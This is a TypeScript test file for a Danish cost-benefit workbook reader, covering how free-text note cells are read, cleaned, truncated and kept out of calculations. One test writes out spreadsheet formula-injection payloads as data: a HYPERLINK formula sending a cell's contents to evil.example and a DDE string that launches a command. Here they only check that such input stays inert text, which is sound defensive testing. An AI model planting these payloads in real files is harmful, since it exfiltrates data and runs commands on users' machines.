/**
 * The free-text note column (`Bemærkning` / `Note`) of the assumption blocks: read from SOM_Effekter,
 * SOM_Omkostninger, SOM_Konsekvenser and SOM_Priser, carried through validation as presentation-only text, never
 * an error, never a figure.
 */
import { calculate } from "../../../src/engine/calculate";
import type { Results, Scenario } from "../../../src/engine/types";
import { validateScenario } from "../../../src/engine/validate";
import { MAX_NOTE_LENGTH } from "../../../src/workbook/names";
import { readScenario } from "../../../src/workbook/read/read-scenario";
import { aNamedRange, aScenarioWorkbook } from "./named-values";

/** The test workbook of `named-values.ts` with a note column added at the right end of each assumption block. */
function withNotes(
  notes: {
    readonly effect?: unknown;
    readonly costs?: readonly unknown[];
    readonly consequence?: unknown;
    readonly price?: unknown;
  },
  header: { readonly da: boolean } = { da: true },
) {
  const h = header.da ? "Bemærkning" : "Note";
  const v = (x: unknown) => (x === undefined ? null : (x as string | number | boolean | null));
  const c = notes.costs ?? [];
  return aScenarioWorkbook({
    SOM_Effekter: aNamedRange(
      "Effekt",
      "B4",
      [
        ["Effektmål", "Succesrate", "Kilde", h],
        ["Beskæftigelse", 0.25, "VIVE 2020", v(notes.effect)],
      ],
      "SOM_Effekter",
    ),
    SOM_Omkostninger: aNamedRange(
      "Omkostninger",
      "B4",
      [
        ["Post", "Art", "Aktør", "Beløb", "Prisår", "Fra år", "Til år", "Kilde", h],
        ["Opstart af projekt", "Opstart", "Kommune", 200000, 2025, null, null, null, v(c[0])],
        ["Mentorer", "Drift", "Kommune", 500000, null, 1, 3, "Budget", v(c[1])],
        ["Kursus", "Pr. deltager", "Region Hovedstaden", 8000, null, null, null, null, v(c[2])],
        ["Tidligere tilbud", "Sparet", "Kommune", 100000, 2024, 1, 3, null, v(c[3])],
      ],
      "SOM_Omkostninger",
    ),
    SOM_Konsekvenser: aNamedRange(
      "Konsekvenser",
      "B4",
      [
        ["Effektmål", "Ydelse", "Enhed", "Art", "År 1", "År 2", "År 3", h],
        ["Beskæftigelse", "Kontanthjælp", "år", "Udgift", -0.5, -1, null, v(notes.consequence)],
      ],
      "SOM_Konsekvenser",
    ),
    SOM_Priser: aNamedRange(
      "Priser",
      "B4",
      [
        ["Ydelse", "Enhed", "Prisår", "Kommune", "Region Hovedstaden", "Staten", "Kilde", h],
        ["Kontanthjælp", "år", 2025, 120000, null, 40000, "Finansministeriet", v(notes.price)],
      ],
      "SOM_Priser",
    ),
  });
}

const scenarioOf = (named: ReturnType<typeof aScenarioWorkbook>): Scenario => {
  const v = validateScenario(readScenario(named).raw);
  if (!v.ok) throw new Error(JSON.stringify(v.issues));
  return v.value;
};

describe("the note column of the assumption blocks", () => {
  const NOTES = {
    effect: "Lavere end i forsøget: andre borgere",
    costs: [null, "3 årsværk à 500.000 kr.", null, "Ophører helt"],
    consequence: "Kun første to år",
    price: "Gennemsnit 2023–2025",
  };

  it.each([
    ["Danish header «Bemærkning»", { da: true }],
    ["English header «Note»", { da: false }],
  ])("reads the note of each row under the %s, for the right row, without any issue", (_, header) => {
    const read = readScenario(withNotes(NOTES, header));
    expect(read.issues).toEqual([]);
    expect(read.raw.effects.map((e) => e.note)).toEqual(["Lavere end i forsøget: andre borgere"]);
    expect(read.raw.costs.map((c) => c.note)).toEqual([
      undefined,
      "3 årsværk à 500.000 kr.",
      undefined,
      "Ophører helt",
    ]);
    expect(read.raw.consequences.map((c) => c.note)).toEqual(["Kun første to år"]);
    expect(read.raw.prices.map((p) => p.note)).toEqual(["Gennemsnit 2023–2025"]);
  });

  it("leaves the note out when the block has no note column (older workbooks)", () => {
    const read = readScenario(aScenarioWorkbook());
    const rows = [...read.raw.effects, ...read.raw.costs, ...read.raw.consequences, ...read.raw.prices];
    expect(rows.length).toBe(7);
    for (const r of rows) expect(Object.hasOwn(r, "note")).toBe(false);
  });

  it("carries the notes through validation onto the same rows of the validated scenario", () => {
    const s = scenarioOf(withNotes(NOTES));
    expect(s.effects[0]?.note).toBe(NOTES.effect);
    expect(s.costs.map((c) => [c.item, c.note])).toEqual([
      ["Opstart af projekt", undefined],
      ["Mentorer", "3 årsværk à 500.000 kr."],
      ["Kursus", undefined],
      ["Tidligere tilbud", "Ophører helt"],
    ]);
    expect(s.consequences[0]?.note).toBe(NOTES.consequence);
    expect(s.prices[0]?.note).toBe(NOTES.price);
  });

  it("does not change a single figure of the engine's results (notes are presentation only)", () => {
    const strip = (r: Results) => JSON.stringify(r, (_, x: unknown) => (x instanceof Map ? [...x] : x));
    const plain = calculate(scenarioOf(aScenarioWorkbook()));
    const noted = calculate(scenarioOf(withNotes(NOTES)));
    expect(strip(noted)).toBe(strip(plain));
    expect(plain.total.netTotal).not.toBe(0); // a real calculation, not an empty one
  });

  it("keeps hostile text as plain text: a formula-looking note is a string, never evaluated or refused", () => {
    const hyperlink = '=HYPERLINK("http://evil.example/?q="&A1,"Klik")';
    const read = readScenario(
      withNotes({ effect: hyperlink, price: "+SUM(1,2)", consequence: "@cmd|' /C calc'!A0" }),
    );
    expect(read.issues).toEqual([]);
    expect(read.raw.effects[0]?.note).toBe(hyperlink);
    expect(read.raw.prices[0]?.note).toBe("+SUM(1,2)");
    expect(read.raw.consequences[0]?.note).toBe("@cmd|' /C calc'!A0");
  });

  it("puts line breaks and tabs on one line and shows direction and control characters as \\uXXXX", () => {
    const read = readScenario(
      withNotes({ effect: "  første linje\r\n\tanden   linje  ", price: "pris\u202Eevil\u0007" }),
    );
    expect(read.raw.effects[0]?.note).toBe("første linje anden linje");
    expect(read.raw.prices[0]?.note).toBe("pris\\u202eevil\\u0007");
  });

  it("keeps a number or TRUE/FALSE typed as a note as its text, and a blank or spaces-only note as none", () => {
    const read = readScenario(withNotes({ effect: 42, price: true, consequence: "   ", costs: [""] }));
    expect(read.issues).toEqual([]);
    expect(read.raw.effects[0]?.note).toBe("42");
    expect(read.raw.prices[0]?.note).toBe("true");
    expect(read.raw.consequences[0]?.note).toBeUndefined();
    expect(read.raw.costs[0]?.note).toBeUndefined();
  });

  it("cuts a note longer than 500 characters with «…» and warns at its cell; 500 exactly is kept whole", () => {
    expect(MAX_NOTE_LENGTH).toBe(500);
    const long = "æ".repeat(499) + "ø" + "x".repeat(300); // 800 characters
    const exact = "å".repeat(500);
    const read = readScenario(withNotes({ consequence: long, costs: [null, exact] }));
    expect(read.issues.map((i) => [i.code, i.severity, i.location.name, i.location.cell])).toEqual([
      ["note-too-long", "warning", "SOM_Konsekvenser", "I5"],
    ]);
    expect(read.issues[0]?.message.da).toContain("800 tegn");
    expect(read.raw.consequences[0]?.note).toBe("æ".repeat(499) + "ø…");
    expect(read.raw.costs[1]?.note).toBe(exact);
    // a warning only: the scenario still validates
    expect(validateScenario(read.raw).ok).toBe(true);
  });

  it("cuts by characters, not UTF-16 units (an emoji at the cut is not split)", () => {
    const read = readScenario(withNotes({ effect: "a".repeat(499) + "😀😀" }));
    expect(read.raw.effects[0]?.note).toBe("a".repeat(499) + "😀…");
  });
});
